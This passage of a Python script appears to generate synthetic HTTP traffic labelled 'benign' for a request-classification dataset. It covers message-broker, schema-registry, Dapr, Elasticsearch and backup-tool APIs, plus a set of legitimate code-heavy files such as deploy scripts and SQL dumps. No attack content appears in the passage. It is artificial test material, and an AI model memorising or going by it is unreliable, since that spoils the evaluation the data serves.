                   api_headers(host, "application/vnd.kafka.json.v2+json", "application/vnd.kafka.v2+json, application/json"), body)
        elif k == 3:
            recs = [{"key": b64(uuid4()), "value": b64(jdump(kafka_value())), "partition": R.randint(0, 11)} for _ in range(R.randint(1, 3))]
            body = jdump({"records": recs})
            benign("kafka-rest-produce-binary", "POST", "/topics/%s" % topic,
                   api_headers(host, "application/vnd.kafka.binary.v2+json", "application/vnd.kafka.v2+json"), body)
        elif k == 4:
            body = jdump({"value_schema_id": R.randint(1, 400), "records": [{"value": {"id": R.randint(1, 9999), "amount": round(R.uniform(1, 999), 2),
                                                                                        "status": {"string": pick(["PAID", "PENDING"])}}}]})
            benign("kafka-rest-produce-avro", "POST", "/topics/%s" % topic,
                   api_headers(host, "application/vnd.kafka.avro.v2+json", "application/vnd.kafka.v2+json"), body)
        elif k == 5:
            cluster = pick(["lkc-1x2y3", "4cd1VcV8SQmQ1bJbJQ2YQg", "redpanda.initializing"])
            body = jdump({"key": {"type": "STRING", "data": uuid4()}, "value": {"type": "JSON", "data": kafka_value()},
                          "headers": [{"name": "traceparent", "value": b64("00-%s-%s-01" % (hexs(32), hexs(16)))}]})
            benign("kafka-rest-v3-produce", "POST", "/v3/clusters/%s/topics/%s/records" % (cluster, topic),
                   api_headers(host, "application/json", auth=basic("svc-producer", hexs(16))), body)
        elif k == 6:
            group = pick(["thumbnailer", "etl-loader", "search-indexer", "audit-sink"])
            body = jdump({"name": "%s-%s" % (group, hexs(6)), "format": pick(["json", "binary", "avro"]),
                          "auto.offset.reset": pick(["earliest", "latest"]), "auto.commit.enable": pick(["true", "false"])})
            benign("kafka-rest-create-consumer", "POST", "/consumers/%s" % group,
                   api_headers(host, "application/vnd.kafka.v2+json"), body)
        elif k == 7:
            group = pick(["thumbnailer", "etl-loader"])
            inst = "%s-%s" % (group, hexs(6))
            body = jdump({"topics": [topic]} if R.random() < 0.6 else {"topic_pattern": "orders\\..*"})
            benign("kafka-rest-subscribe", "POST", "/consumers/%s/instances/%s/subscription" % (group, inst),
                   api_headers(host, "application/vnd.kafka.v2+json"), body)
        elif k == 8:
            group = pick(["thumbnailer", "etl-loader"])
            benign("kafka-rest-fetch", "GET", "/consumers/%s/instances/%s-%s/records?timeout=%d&max_bytes=%d" % (
                group, group, hexs(6), pick([1000, 3000]), pick([300000, 1048576])),
                api_headers(host, accept="application/vnd.kafka.json.v2+json"))
        else:
            benign("kafka-rest-metadata", "GET", pick(["/topics", "/topics/%s" % topic, "/topics/%s/partitions" % topic,
                                                       "/v3/clusters", "/brokers"]), api_headers(host, accept="application/vnd.kafka.v2+json"))


def avro_schema():
    name = pick(["Order", "Payment", "UserEvent", "Telemetry"])
    fields = [{"name": "id", "type": "string"}, {"name": "ts", "type": {"type": "long", "logicalType": "timestamp-millis"}},
              {"name": "amount", "type": ["null", {"type": "bytes", "logicalType": "decimal", "precision": 12, "scale": 2}], "default": None},
              {"name": "status", "type": {"type": "enum", "name": "Status", "symbols": ["PENDING", "PAID", "FAILED"]}},
              {"name": "note", "type": ["null", "string"], "default": None, "doc": "free text, may contain <html> or quotes"}]
    return jdump({"type": "record", "name": name, "namespace": "com.example.%s" % pick(["orders", "billing", "events"]),
                  "fields": fields[:R.randint(2, 5)]})


def json_schema():
    return jdump({"$schema": "http://json-schema.org/draft-07/schema#", "$id": "https://schemas.example.net/%s.json" % pick(WORDS),
                  "title": pick(WORDS).title(), "type": "object",
                  "properties": {"id": {"type": "string", "format": "uuid"},
                                 "email": {"type": "string", "pattern": "^[^@\\s]+@[^@\\s]+\\.[a-z]{2,}$"},
                                 "tags": {"type": "array", "items": {"type": "string"}},
                                 "payload": {"$ref": "#/definitions/payload"}},
                  "required": ["id"], "definitions": {"payload": {"type": "object", "additionalProperties": True}}})


def benign_schema_registry(n):
    for i in range(n):
        host = pick(SCHEMA_REG)
        subj = "%s-value" % pick(TOPICS[:-1])
        k = i % 6
        ct = "application/vnd.schemaregistry.v1+json"
        if k == 0:
            body = jdump({"schema": avro_schema()})
            benign("schema-register-avro", "POST", "/subjects/%s/versions" % subj, api_headers(host, ct, ct), body)
        elif k == 1:
            body = jdump({"schemaType": "JSON", "schema": json_schema()})
            benign("schema-register-json", "POST", "/subjects/%s/versions" % subj, api_headers(host, ct, ct), body)
        elif k == 2:
            body = jdump({"schemaType": "PROTOBUF",
                          "schema": 'syntax = "proto3";\npackage orders.v1;\nimport "google/protobuf/timestamp.proto";\n'
                                    'message Order {\n  string id = 1;\n  repeated Item items = 2;\n  google.protobuf.Timestamp created = 3;\n}\n'
                                    'message Item { string sku = 1; int32 qty = 2; }\n',
                          "references": [{"name": "google/protobuf/timestamp.proto", "subject": "google/protobuf/timestamp.proto", "version": 1}]})
            benign("schema-register-protobuf", "POST", "/subjects/%s/versions" % subj, api_headers(host, ct, ct), body)
        elif k == 3:
            body = jdump({"schema": avro_schema()})
            benign("schema-compat-check", "POST", "/compatibility/subjects/%s/versions/latest?verbose=true" % subj,
                   api_headers(host, ct, ct), body)
        elif k == 4:
            body = jdump({"compatibility": pick(["BACKWARD", "FULL_TRANSITIVE", "NONE"])})
            benign("schema-config", "PUT", "/config/%s" % subj, api_headers(host, ct, ct), body)
        else:
            benign("schema-get", "GET", pick(["/subjects", "/subjects/%s/versions" % subj, "/schemas/ids/%d" % R.randint(1, 500),
                                              "/subjects/%s/versions/latest/schema" % subj, "/schemas/types"]),
                   api_headers(host, accept=ct))


# ---------------------------------------------------------------------------
# benign: RabbitMQ management, NATS, Pulsar
# ---------------------------------------------------------------------------

RABBIT = ["rabbitmq.messaging.svc.cluster.local:15672", "rabbitmq-management.corp.example.net",
          "rabbitmq-server-0.rabbitmq-nodes.rabbitmq-system.svc:15672"]
VHOSTS = ["%2F", "prod", "orders", "tenant-a", "iot"]
QUEUES = ["orders.created", "email.outbox", "thumbnail.jobs", "dead-letter", "audit", "payments.retry.30s",
          "celery", "notifications.push", "search.reindex"]


def rabbit_headers(host, ctype=None, browser=False):
    if browser:
        h = browser_headers(host, "/#/queues", True, cookie="m=2258:%s" % b64("admin:" + hexs(10)), ctype=ctype)
        h.insert(3, ["authorization", basic(pick(["admin", "ops"]), hexs(12))])
        return h
    return api_headers(host, ctype, auth=basic(pick(["admin", "monitoring", "svc-deployer"]), hexs(16)),
                       ua=pick(["python-requests/2.31.0", "rabbitmqadmin-ng/0.9.0", "curl/8.5.0", "Go-http-client/1.1",
                                "prometheus-rabbitmq-exporter/1.0"]))


def benign_rabbitmq(n):
    for i in range(n):
        host = pick(RABBIT)
        vh = pick(VHOSTS)
        qn = pick(QUEUES)
        br = R.random() < 0.35
        k = i % 11
        if k == 0:
            body = jdump({"auto_delete": False, "durable": True, "arguments": {"x-queue-type": pick(["quorum", "classic", "stream"]),
                                                                               "x-dead-letter-exchange": "dlx", "x-message-ttl": 60000}})
            benign("rabbit-declare-queue", "PUT", "/api/queues/%s/%s" % (vh, q(qn)), rabbit_headers(host, "application/json", br), body)
        elif k == 1:
            body = jdump({"type": pick(["topic", "direct", "fanout", "headers"]), "durable": True, "auto_delete": False,
                          "internal": False, "arguments": {}})
            benign("rabbit-declare-exchange", "PUT", "/api/exchanges/%s/%s" % (vh, pick(["orders", "events.topic", "dlx", "amq.custom"])),
                   rabbit_headers(host, "application/json", br), body)
        elif k == 2:
            body = jdump({"routing_key": pick(["orders.*.created", "#", "eu.#", "payments.retry"]), "arguments": {}})
            benign("rabbit-binding", "POST", "/api/bindings/%s/e/%s/q/%s" % (vh, pick(["orders", "events.topic"]), q(qn)),
                   rabbit_headers(host, "application/json", br), body)
        elif k in (3, 4, 5):
            payload = pick([jdump(kafka_value()), pick(LOREM), "<order id=\"42\"><item sku=\"A-1\" qty=\"2\"/></order>",
                            "Hello from the management UI", b64(jdump(kafka_value()))])
            enc = "base64" if payload.endswith("=") or (len(payload) > 40 and " " not in payload and not payload.startswith("{") and not payload.startswith("<")) else "string"
            body = jdump({"vhost": urllib.parse.unquote(vh), "name": "amq.default", "properties": {
                "delivery_mode": 2, "headers": {"x-origin": "mgmt-ui"}, "content_type": pick(["application/json", "text/plain"])},
                "routing_key": qn, "delivery_mode": "2", "payload": payload, "headers": {}, "props": {}, "payload_encoding": enc})
            benign("rabbit-publish", "POST", "/api/exchanges/%s/amq.default/publish" % vh, rabbit_headers(host, "application/json", br), body)
        elif k == 6:
            body = jdump({"count": R.randint(1, 10), "ackmode": "ack_requeue_true", "encoding": "auto", "truncate": 50000})
            benign("rabbit-get-messages", "POST", "/api/queues/%s/%s/get" % (vh, q(qn)), rabbit_headers(host, "application/json", br), body)
        elif k == 7:
            body = jdump({"pattern": pick(["^orders\\.", "^(?!amq\\.).*", ".*", "^payments\\.retry\\..*$"]),
                          "definition": {"ha-mode": "all"} if R.random() < 0.3 else {"max-length": 100000, "overflow": "reject-publish",
                                                                                      "dead-letter-exchange": "dlx"},
                          "priority": R.randint(0, 10), "apply-to": pick(["queues", "exchanges", "all"])})
            benign("rabbit-policy", "PUT", "/api/policies/%s/%s" % (vh, pick(["ttl-orders", "dlx-all", "lazy", "limits"])),
                   rabbit_headers(host, "application/json", br), body)
        elif k == 8:
            body = jdump({"value": {"src-protocol": "amqp091", "src-uri": pick(["amqp://", "amqp://shovel:%s@rabbitmq-legacy.messaging.svc:5672/%%2F" % hexs(8)]),
                                    "src-queue": qn, "dest-protocol": "amqp091",
                                    "dest-uri": pick(["amqps://shovel:%s@rabbitmq.dr.example.net:5671/prod?cacertfile=/etc/rabbitmq/ca.pem&verify=verify_peer" % hexs(8),
                                                      "amqp://rabbitmq-new.messaging.svc.cluster.local"]),
                                    "dest-queue": qn, "ack-mode": "on-confirm", "src-delete-after": "never"}})
            benign("rabbit-shovel", "PUT", "/api/parameters/shovel/%s/%s" % (vh, "move-" + q(qn)), rabbit_headers(host, "application/json", br), body)
        elif k == 9:
            body = jdump({"value": {"uri": pick(["amqps://fed:%s@rabbitmq-eu.example.net:5671" % hexs(8), "amqp://upstream-1.messaging.svc"]),
                                    "expires": 3600000, "ack-mode": "on-confirm", "trust-user-id": False}})
            benign("rabbit-federation-upstream", "PUT", "/api/parameters/federation-upstream/%s/%s" % (vh, pick(["eu-west", "dc2"])),
                   rabbit_headers(host, "application/json", br), body)
        else:
            benign("rabbit-overview", "GET", pick(["/api/overview", "/api/queues/%s?page=1&page_size=100&name=%s&use_regex=false&pagination=true" % (vh, q(qn[:4])),
                                                   "/api/nodes", "/api/connections", "/api/queues/%s/%s/bindings" % (vh, q(qn)),
                                                   "/api/definitions", "/api/health/checks/alarms"]),
                   rabbit_headers(host, None, br))


NATS = ["nats.messaging.svc.cluster.local:8222", "nats-0.nats.nats.svc:8222"]
NATS_BRIDGE = ["nats-http-bridge.messaging.svc.cluster.local:8080"]


def benign_nats(n):
    for i in range(n):
        if i % 2 == 0:
            benign("nats-monitoring", "GET", pick(["/varz", "/connz?subs=1&sort=bytes_to&limit=256", "/jsz?accounts=true&streams=true&consumers=true",
                                                   "/healthz?js-enabled-only=true", "/routez", "/subsz?subs=1&test=orders.*.created"]),
                   [["Host", pick(NATS)], ["User-Agent", pick(["Prometheus/2.51.2", "prometheus-nats-exporter/0.15.0", "kube-probe/1.29"])],
                    ["Accept", "*/*"], ["Accept-Encoding", "gzip"]])
        else:
            subject = pick(["orders.eu.created", "iot.sensor.>", "audit.minio.put", "chat.room.general", "$JS.API.STREAM.INFO.ORDERS"])
            if subject.startswith("$JS"):
                body = "{}"
            else:
                body = jdump(kafka_value())
            benign("nats-bridge-publish", "POST", "/v1/publish/%s" % q(subject, safe=".>*"),
                   api_headers(pick(NATS_BRIDGE), "application/json", auth=bearer(),
                               extra=[["Nats-Msg-Id", uuid4()], ["Nats-Expected-Stream", "ORDERS"]] if R.random() < 0.5 else []), body)


PULSAR = ["pulsar-broker.pulsar.svc.cluster.local:8080", "pulsar-proxy.pulsar.svc:8080", "pulsar-admin.corp.example.net"]


def benign_pulsar(n):
    for i in range(n):
        host = pick(PULSAR)
        tenant, ns = pick(["public", "acme", "tenant-a"]), pick(["default", "orders", "iot", "billing"])
        topic = pick(["orders-v1", "payments", "telemetry-partitioned", "audit"])
        ua = pick(["Pulsar-Java-v3.2.2", "pulsarctl/v3.0", "Pulsar-CPP-v3.5.0", "python-requests/2.31.0"])
        auth = bearer()
        k = i % 8
        if k == 0:
            benign("pulsar-list-topics", "GET", "/admin/v2/persistent/%s/%s" % (tenant, ns), api_headers(host, auth=auth, ua=ua))
        elif k == 1:
            benign("pulsar-topic-stats", "GET", "/admin/v2/persistent/%s/%s/%s/stats?getPreciseBacklog=true&subscriptionBacklogSize=false" % (tenant, ns, topic),
                   api_headers(host, auth=auth, ua=ua))
        elif k == 2:
            body = jdump({"retentionTimeInMinutes": pick([1440, 10080, -1]), "retentionSizeInMB": pick([1024, 10240, -1])})
            benign("pulsar-set-retention", "POST", "/admin/v2/namespaces/%s/%s/retention" % (tenant, ns),
                   api_headers(host, "application/json", auth=auth, ua=ua), body)
        elif k == 3:
            body = str(pick([4, 8, 16]))
            benign("pulsar-create-partitioned", "PUT", "/admin/v2/persistent/%s/%s/%s/partitions" % (tenant, ns, topic),
                   api_headers(host, "application/json", auth=auth, ua=ua), body)
        elif k == 4:
            body = jdump({"producerName": "rest-%s" % hexs(4), "messages": [
                {"key": uuid4(), "payload": b64(jdump(kafka_value())), "properties": {"source": "rest", "trace": hexs(16)},
                 "eventTime": str(1715900000000 + R.randint(0, 10 ** 8))} for _ in range(R.randint(1, 3))]})
            benign("pulsar-rest-produce", "POST", "/topics/persistent/%s/%s/%s" % (tenant, ns, topic),
                   api_headers(host, "application/json", auth=auth, ua=ua), body)
        elif k == 5:
            benign("pulsar-reset-cursor", "POST", "/admin/v2/persistent/%s/%s/%s/subscription/%s/resetcursor/%d?isExcluded=false" % (
                tenant, ns, topic, pick(["etl", "indexer"]), 1715900000000 + R.randint(0, 10 ** 8)), api_headers(host, auth=auth, ua=ua))
        elif k == 6:
            body = jdump({"type": "AVRO", "schema": avro_schema(), "properties": {"owner": "team-billing"}})
            benign("pulsar-upload-schema", "POST", "/admin/v2/schemas/%s/%s/%s/schema" % (tenant, ns, topic),
                   api_headers(host, "application/json", auth=auth, ua=ua), body)
        else:
            body = jdump({"tier": "s3", "offloadersDirectory": "./offloaders", "managedLedgerOffloadDriver": "aws-s3",
                          "s3ManagedLedgerOffloadBucket": "pulsar-offload", "s3ManagedLedgerOffloadServiceEndpoint": "http://minio.minio.svc:9000",
                          "s3ManagedLedgerOffloadRegion": "us-east-1", "managedLedgerOffloadThresholdInBytes": 1073741824})
            benign("pulsar-offload-policies", "POST", "/admin/v2/namespaces/%s/%s/offloadPolicies" % (tenant, ns),
                   api_headers(host, "application/json", auth=auth, ua=ua), body)


# ---------------------------------------------------------------------------
# benign: CloudEvents / Knative, Dapr, Elasticsearch snapshots, backup tools
# ---------------------------------------------------------------------------

KN_BROKERS = ["broker-ingress.knative-eventing.svc.cluster.local", "kafka-broker-ingress.knative-eventing.svc.cluster.local"]
CE_TYPES = ["com.example.order.created", "dev.knative.apiserver.resource.update", "io.minio.s3.objectcreated",
            "com.github.pull_request.opened", "org.example.payment.failed.v2", "dev.knative.sources.ping"]


def benign_cloudevents(n):
    for i in range(n):
        host = pick(KN_BROKERS + ["thumbnailer.media.svc.cluster.local", "event-display.default.svc.cluster.local"])
        path = "/%s/%s" % (pick(["media", "orders", "default", "platform"]), pick(["default", "kafka-broker"])) if "broker" in host else "/"
        ctype = pick(CE_TYPES)
        src = pick(["/apis/v1/namespaces/default/pingsources/every-minute", "minio:s3//%s" % pick(BUCKETS),
                    "https://github.com/acme/platform", "//orders-api.orders.svc.cluster.local", "urn:event:from:legacy-erp"])
        data = kafka_value()
        ua = pick(["Go-http-client/1.1", "CloudEvents-Java/2.5.0", "python-requests/2.31.0", "Vert.x-WebClient/4.5.7"])
        if i % 3 == 0:
            body = jdump({"specversion": "1.0", "type": ctype, "source": src, "id": uuid4(), "time": iso_time(),
                          "datacontenttype": "application/json", "subject": pick(["orders/%d" % R.randint(1, 9999), rand_key()]),
                          "knativearrivaltime": iso_time(), "data": data})
            benign("cloudevent-structured", "POST", path, [["Host", host], ["User-Agent", ua],
                                                           ["Content-Type", "application/cloudevents+json; charset=utf-8"],
                                                           ["Accept-Encoding", "gzip"]], body)
        elif i % 7 == 1:
            blob = "".join(pick("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(120))
            body = jdump({"specversion": "1.0", "type": ctype, "source": src, "id": uuid4(), "datacontenttype": "application/octet-stream",
                          "data_base64": blob + "=="})
            benign("cloudevent-structured-b64", "POST", path, [["Host", host], ["User-Agent", ua],
                                                               ["Content-Type", "application/cloudevents+json"]], body)
        else:
            body = jdump(data)
            h = [["Host", host], ["User-Agent", ua], ["Content-Type", "application/json"],
                 ["Ce-Id", uuid4()], ["Ce-Source", src], ["Ce-Specversion", "1.0"], ["Ce-Type", ctype],
                 ["Ce-Time", iso_time()]]
            if R.random() < 0.5:
                h.append(["Ce-Subject", pick(["orders/%d" % R.randint(1, 9999), qkey(rand_key())])])
            if R.random() < 0.4:
                h.append(["Traceparent", "00-%s-%s-01" % (hexs(32), hexs(16))])
            if R.random() < 0.3:
                h.append(["Ce-Knativehistory", "default-kne-trigger-kn-channel.media.svc.cluster.local"])
            h.append(["Accept-Encoding", "gzip"])
            benign("cloudevent-binary", "POST", path, h, body)


DAPR = ["localhost:3500", "127.0.0.1:3500"]


def benign_dapr(n):
    for i in range(n):
        host = pick(DAPR)
        ua = pick(["Go-http-client/1.1", "dapr-sdk-dotnet/v1.13.0", "dapr-sdk-python/1.13.0", "axios/1.6.8", "okhttp/4.12.0"])
        k = i % 7
        extra = [["dapr-api-token", hexs(32)]] if R.random() < 0.3 else []
        if k in (0, 1):
            body = jdump(kafka_value())
            benign("dapr-publish", "POST", "/v1.0/publish/%s/%s%s" % (pick(["pubsub", "kafka-pubsub", "rabbitmq-pubsub"]), pick(TOPICS[:-1]),
                                                                     pick(["", "?metadata.ttlInSeconds=120", "?metadata.rawPayload=true"])),
                   api_headers(host, "application/json", ua=ua, extra=extra), body)
        elif k == 2:
            body = jdump([{"key": pick(["cart-%s" % uuid4(), "session||%s" % hexs(16), "user:%d:prefs" % R.randint(1, 99999)]),
                           "value": kafka_value(), "etag": str(R.randint(1, 40)) if R.random() < 0.3 else None,
                           "options": {"concurrency": "first-write", "consistency": "strong"}}])
            benign("dapr-state-save", "POST", "/v1.0/state/%s" % pick(["statestore", "redis-state", "mongo-state"]),
                   api_headers(host, "application/json", ua=ua, extra=extra), body)
        elif k == 3:
            benign("dapr-state-get", "GET", "/v1.0/state/statestore/%s%s" % (q(pick(["cart-%s" % uuid4(), "user:%d:prefs" % R.randint(1, 99999)]), safe=":-"),
                                                                             pick(["", "?consistency=strong", "?metadata.partitionKey=eu"])),
                   api_headers(host, ua=ua, extra=extra))
        elif k == 4:
            body = jdump({"filter": pick([{"EQ": {"state": "CA"}},
                                          {"AND": [{"EQ": {"person.org": "Dev Ops"}}, {"IN": {"state": ["CA", "WA"]}}]},
                                          {"OR": [{"EQ": {"status": "open"}}, {"GT": {"priority": 3}}]}]),
                          "sort": [{"key": "person.id", "order": pick(["ASC", "DESC"])}], "page": {"limit": pick([10, 50, 100])}})
            benign("dapr-state-query", "POST", "/v1.0-alpha1/state/%s/query" % pick(["mongo-state", "pg-state", "cosmos-state"]),
                   api_headers(host, "application/json", ua=ua, extra=extra), body)
        elif k == 5:
            content = pick([jdump(kafka_value()), small_body("csv")])
            body = jdump({"operation": "create", "data": content, "metadata": {"key": rand_key(), "contentType": "text/plain"}})
            benign("dapr-binding-s3", "POST", "/v1.0/bindings/%s" % pick(["s3-binding", "minio-out", "object-store"]),
                   api_headers(host, "application/json", ua=ua, extra=extra), body)
        else:
            body = jdump({"orderId": R.randint(1, 99999), "note": pick(LOREM)})
            benign("dapr-invoke", "POST", "/v1.0/invoke/%s/method/%s" % (pick(["orders-api", "billing.payments", "inventory"]),
                                                                         pick(["orders/confirm", "api/v1/reserve", "checkout"])),
                   api_headers(host, "application/json", ua=ua, extra=extra), body)


ES = ["elasticsearch-es-http.elastic-system.svc:9200", "logging-es.logging.svc.cluster.local:9200", "opensearch.search.svc:9200"]


def benign_es_snapshot(n):
    for i in range(n):
        host = pick(ES)
        auth = pick([basic("elastic", hexs(12)), "ApiKey " + b64(hexs(10) + ":" + hexs(22))])
        ua = pick(["elasticsearch-py/8.13.0 (Python/3.11.9; elastic-transport/8.13.0)", "curl/8.5.0", "Kibana/8.13.2",
                   "elastic-operator/2.12.1"])
        repo = pick(["s3_repo", "minio-backups", "nightly"])
        k = i % 5
        if k == 0:
            body = jdump({"type": "s3", "settings": {"bucket": "es-snapshots", "endpoint": pick(["minio.minio.svc:9000", "s3.corp.example.net"]),
                                                     "protocol": pick(["http", "https"]), "path_style_access": True,
                                                     "base_path": "%s/%s" % (pick(["prod", "staging"]), pick(["cluster-a", "logs"])),
                                                     "compress": True, "max_restore_bytes_per_sec": "200mb"}})
            benign("es-put-s3-repo", "PUT", "/_snapshot/%s?verify=true" % repo, api_headers(host, "application/json", auth=auth, ua=ua), body)
        elif k == 1:
            body = jdump({"indices": pick(["logs-*,metrics-*", "orders-2024.05.*", "-.*,*"]), "ignore_unavailable": True,
                          "include_global_state": False, "metadata": {"taken_by": "snapshot-cronjob", "taken_because": "nightly backup"}})
            benign("es-create-snapshot", "PUT", "/_snapshot/%s/snap-2024.05.%02d?wait_for_completion=false" % (repo, R.randint(1, 28)),
                   api_headers(host, "application/json", auth=auth, ua=ua), body)
        elif k == 2:
            body = jdump({"indices": "orders-2024.05.*", "rename_pattern": "(.+)", "rename_replacement": "restored-$1",
                          "include_aliases": False})
            benign("es-restore-snapshot", "POST", "/_snapshot/%s/snap-2024.05.%02d/_restore" % (repo, R.randint(1, 28)),
                   api_headers(host, "application/json", auth=auth, ua=ua), body)
        elif k == 3:
            body = jdump({"schedule": "0 30 1 * * ?", "name": "<nightly-snap-{now/d}>", "repository": repo,
                          "config": {"indices": ["*"], "include_global_state": True},
                          "retention": {"expire_after": "30d", "min_count": 5, "max_count": 50}})
            benign("es-slm-policy", "PUT", "/_slm/policy/nightly-snapshots", api_headers(host, "application/json", auth=auth, ua=ua), body)
        else:
            benign("es-get-snapshots", "GET", pick(["/_snapshot/%s/_all?verbose=false" % repo, "/_snapshot/_status",
                                                    "/_cat/snapshots/%s?v&s=end_epoch" % repo, "/_snapshot/%s/_verify" % repo]),
                   api_headers(host, auth=auth, ua=ua))


def benign_backup_tools(n):
    for i in range(n):
        bucket = pick(["restic-repo", "kopia-repo", "velero", "backups"])
        host = pick(S3_HOSTS)
        k = i % 6
        if k == 0:
            key = pick(["restic/prod/config", "restic/prod/keys/%s" % hexs(64), "restic/prod/index/%s" % hexs(64),
                        "restic/prod/snapshots/%s" % hexs(64), "restic/prod/locks/%s" % hexs(64)])
            h, p = s3_loc("restic-repo", key, host)
            benign("restic-get", pick(["GET", "HEAD"]), p, s3_headers("restic", h))
        elif k == 1:
            d = hexs(64)
            h, p = s3_loc("restic-repo", None, host)
            benign("restic-list", "GET", p + "?" + qs([("delimiter", "/"), ("encoding-type", "url"), ("fetch-owner", "true"),
                                                     ("list-type", "2"), ("prefix", "restic/prod/data/%s/" % d[:2])]),
                   s3_headers("restic", h))
        elif k == 2:
            key = pick(["kopia.repository", "kopia.blobcfg", "p%s-s%s-c1" % (hexs(32), hexs(16)), "q%s-s%s" % (hexs(32), hexs(16)),
                        "xn0_%s-s%s-c1" % (hexs(32), hexs(16)), "_log_%s_%s" % (hexs(20), hexs(12))])
            h, p = s3_loc("kopia-repo", "kopia/%s" % key, host)
            benign("kopia-get", pick(["GET", "HEAD"]), p, s3_headers("kopia", h, extra=[["Range", "bytes=0-%d" % R.randint(1000, 99999)]] if R.random() < 0.3 else []))
        elif k == 3:
            name = "daily-2024051%d%06d" % (R.randint(0, 9), R.randint(0, 235959))
            key = "backups/%s/%s" % (name, pick(["velero-backup.json", "%s-logs.gz" % name, "%s-podvolumebackups.json.gz" % name,
                                                 "%s-resource-list.json.gz" % name, "%s-csi-volumesnapshots.json.gz" % name]))
            h, p = s3_loc("velero", key, host)
            if key.endswith("velero-backup.json"):
                body = jdump({"kind": "Backup", "apiVersion": "velero.io/v1", "metadata": {"name": name, "namespace": "velero"},
                              "spec": {"includedNamespaces": ["*"], "excludedResources": ["events", "events.events.k8s.io"],
                                       "ttl": "720h0m0s", "storageLocation": "default", "defaultVolumesToFsBackup": True,
                                       "hooks": {"resources": [{"name": "fsfreeze", "includedNamespaces": ["db"],
                                                                "pre": [{"exec": {"container": "fsfreeze", "command": ["/sbin/fsfreeze", "--freeze", "/var/lib/postgresql/data"],
                                                                                  "onError": "Fail", "timeout": "30s"}}]}]}},
                              "status": {"phase": "Completed", "startTimestamp": iso_time()}})
                benign("velero-put-backup-json", "PUT", p, s3_headers("velero", h, body=body, ctype="application/json"), body)
            else:
                benign("velero-get", "GET", p, s3_headers("velero", h))
        elif k == 4:
            h, p = s3_loc("velero", None, host)
            benign("velero-list", "GET", p + "?" + qs([("delimiter", "/"), ("list-type", "2"), ("prefix", pick(["backups/", "restores/", "kopia/default/"]))]),
                   s3_headers("velero", h))
        else:
            d = hexs(64)
            h, p = s3_loc("restic-repo", "restic/prod/data/%s/%s" % (d[:2], d), host)
            blob = b64(hexs(200))
            benign("restic-put-pack", "PUT", p, s3_headers("restic", h, body=blob, ctype="application/octet-stream"), blob)


# ---------------------------------------------------------------------------
# dev-content: legitimate but code-heavy objects and messages (exactly 50)
# ---------------------------------------------------------------------------

DEV_DOCS = [
    ("deploy-script", "scripts/deploy.sh", "text/x-shellscript", r'''#!/usr/bin/env bash
set -euo pipefail
# Deploy the storefront to the given environment.
ENV="${1:-staging}"
TAG="$(git rev-parse --short HEAD)"
echo "Deploying ${TAG} to ${ENV}..."
rm -rf ./dist && mkdir -p ./dist
npm ci && npm run build -- --mode "${ENV}"
aws s3 sync ./dist "s3://static-assets/${ENV}/" --delete --cache-control 'max-age=300'
kubectl -n storefront set image deploy/web web="registry.example.net/web:${TAG}"
kubectl -n storefront rollout status deploy/web --timeout=120s || { echo "rollout failed" >&2; exit 1; }
curl -fsS -X POST "$SLACK_WEBHOOK" -d "{\"text\":\"deployed ${TAG} to ${ENV}\"}" > /dev/null
'''),
    ("mysql-dump", "backups/mysql/2024-05-17/shop.sql", "application/sql", r'''-- MySQL dump 10.13  Distrib 8.0.36, for Linux (x86_64)
--
-- Host: mysql.shop.svc    Database: shop
/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;
/*!40101 SET NAMES utf8mb4 */;
/*!40014 SET @OLD_FOREIGN_KEY_CHECKS=@@FOREIGN_KEY_CHECKS, FOREIGN_KEY_CHECKS=0 */;
DROP TABLE IF EXISTS `customers`;
CREATE TABLE `customers` (
  `id` int NOT NULL AUTO_INCREMENT,
  `name` varchar(255) NOT NULL,
  `email` varchar(255) DEFAULT NULL,
  PRIMARY KEY (`id`)
) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;
LOCK TABLES `customers` WRITE;
INSERT INTO `customers` VALUES (1,'Sean O\'Brien','sean@example.com'),(2,'Zoë Müller','zoe@example.de'),(3,'Acme \"Labs\"',NULL);
UNLOCK TABLES;
/*!40014 SET FOREIGN_KEY_CHECKS=@OLD_FOREIGN_KEY_CHECKS */;
-- Dump completed on 2024-05-17  2:00:01
'''),
    ("pg-dump", "backups/postgres/crm/2024-05-17.sql", "application/sql", r'''--
-- PostgreSQL database dump
--
SET statement_timeout = 0;
SELECT pg_catalog.set_config('search_path', '', false);
CREATE TABLE public.orders (
    id bigint NOT NULL,
    customer_id bigint,
    status text DEFAULT 'pending'::text,
    created_at timestamp with time zone DEFAULT now()
);
ALTER TABLE public.orders OWNER TO crm;
COPY public.orders (id, customer_id, status, created_at) FROM stdin;
1	42	paid	2024-05-16 10:11:12+00
2	43	pending	2024-05-16 11:00:00+00
\.
CREATE INDEX orders_customer_idx ON public.orders USING btree (customer_id);
GRANT SELECT ON TABLE public.orders TO reporting;
'''),
    ("html-email-template", "templates/email/welcome.html", "text/html; charset=utf-8", r'''<!DOCTYPE html>
<html lang="{{ locale }}">
<head>
  <meta charset="utf-8">
  <title>Welcome, {{ user.first_name }}!</title>
  <style>body { font-family: sans-serif; } .btn { background: #0b5fff; color: #fff; }</style>
</head>
<body>
  <h1>Hi {{ user.first_name | e }},</h1>
  {% if user.trial_days > 0 %}
  <p>Your trial ends in {{ user.trial_days }} days.</p>
  {% endif %}
  <ul>{% for item in features %}<li>{{ item.title }}</li>{% endfor %}</ul>
  <a class="btn" href="https://app.example.net/activate?token={{ token | urlencode }}">Activate account</a>
  <img src="https://cdn.example.net/logo.png" alt="Example logo" width="120">
</body>
</html>
'''),
    ("landing-page", "www/index.html", "text/html", r'''<!doctype html>
<html><head><meta name="viewport" content="width=device-width, initial-scale=1">
<link rel="stylesheet" href="/assets/style.3f9a1c.css">
<script async src="https://plausible.example.net/js/script.js" data-domain="example.net"></script>
</head>
<body>
<div id="app"><noscript>You need to enable JavaScript to run this app.</noscript></div>
<script type="module" src="/assets/app.8d2e41.js"></script>
<script>window.__CONFIG__ = {"apiBase": "/api/v1", "features": ["uploads", "sharing"]};</script>
</body></html>
'''),
    ("nginx-conf", "configs/nginx/default.conf", "text/plain", r'''server {
    listen 80;
    server_name files.example.net;
    client_max_body_size 5g;
    location / {
        proxy_pass http://minio.minio.svc:9000;
        proxy_set_header Host $http_host;
        proxy_set_header X-Real-IP $remote_addr;
        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
